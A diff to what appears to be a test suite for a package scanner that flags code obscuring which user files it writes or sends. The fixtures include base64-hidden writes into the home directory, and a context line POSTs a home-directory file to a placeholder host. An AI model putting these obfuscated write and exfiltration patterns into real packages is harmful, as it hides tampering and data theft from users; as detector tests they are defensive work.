@@ -16,6 +16,22 @@ examine(concealsTargets, {
       weight: 'strong',
     },
     {
+      when: 'a folder of somebody is written out, and the name in it is encoded',
+      files: {
+        'index.js': `require('fs').writeFileSync('/Users/inert/' + Buffer.from('LmluZXJ0L3NldHRpbmdzLmpzb24=', 'base64').toString(), 'INERT-MARKER')`,
+      },
+      says: ['decodes the name of what it writes'],
+      weight: 'strong',
+    },
+    {
+      when: 'what comes into a file of somebody is encoded in the package',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.writeFileSync(path.join(os.homedir(), '.inert', 'settings.json'), Buffer.from('SU5FUlQtTUFSS0VS', 'base64').toString())`,
+      },
+      says: ['decodes what it writes'],
+      weight: 'strong',
+    },
+    {
       when: 'a file is sent whose name is calculated',
       files: {
         'index.js': `const name = new Intl.NumberFormat('en').format(7e4); fetch('https://x.inert.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/' + name, 'utf8') })`,
@@ -114,6 +130,12 @@ examine(concealsTargets, {
     },
   ],
   silent: [
+    {
+      when: 'what a server answers is decoded and kept',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fetch('https://settings.specimen.invalid/').then(answer => answer.json()).then(answer => fs.writeFileSync(path.join(os.homedir(), '.specimen.json'), Buffer.from(answer.config, 'base64').toString()))`,
+      },
+    },
     {
       when: 'a file of somebody is called by the hash of what is in it',
       files: {
